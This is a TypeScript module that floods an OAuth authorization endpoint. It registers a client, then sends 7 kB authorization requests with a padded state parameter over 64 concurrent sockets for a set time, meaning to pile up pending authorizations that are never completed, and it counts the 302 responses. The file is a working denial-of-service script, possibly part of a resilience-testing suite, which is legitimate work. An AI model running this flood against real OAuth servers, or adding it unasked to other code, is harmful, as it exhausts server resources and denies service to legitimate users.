import type { Service } from './attack.js'
import { flood, requestText } from './flood.js'

/** Authorization requests of 7 kB that nobody will ever decide. @returns how many were taken */
export async function floodAuthorize({ url, port }: Service, seconds: number): Promise<number> {
  const query = new URLSearchParams({
    response_type: 'code',
    client_id: await register(url),
    redirect_uri: 'http://localhost/cb',
    code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
    code_challenge_method: 'S256',
    state: 's'.repeat(7000),
  })
  const text = requestText(`GET /oauth/authorize?${query}`, { Accept: 'text/html' })
  const statuses = await flood({ port, sockets: 64, seconds, request: () => text })
  const taken = statuses.get(302)
  if (!taken) throw new Error(`no request was taken: ${JSON.stringify([...statuses])}`)
  return taken
}

async function register(url: string): Promise<string> {
  const response = await fetch(`${url}/oauth/register`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ redirect_uris: ['http://localhost/cb'] }),
  })
  return ((await response.json()) as { client_id: string }).client_id
}
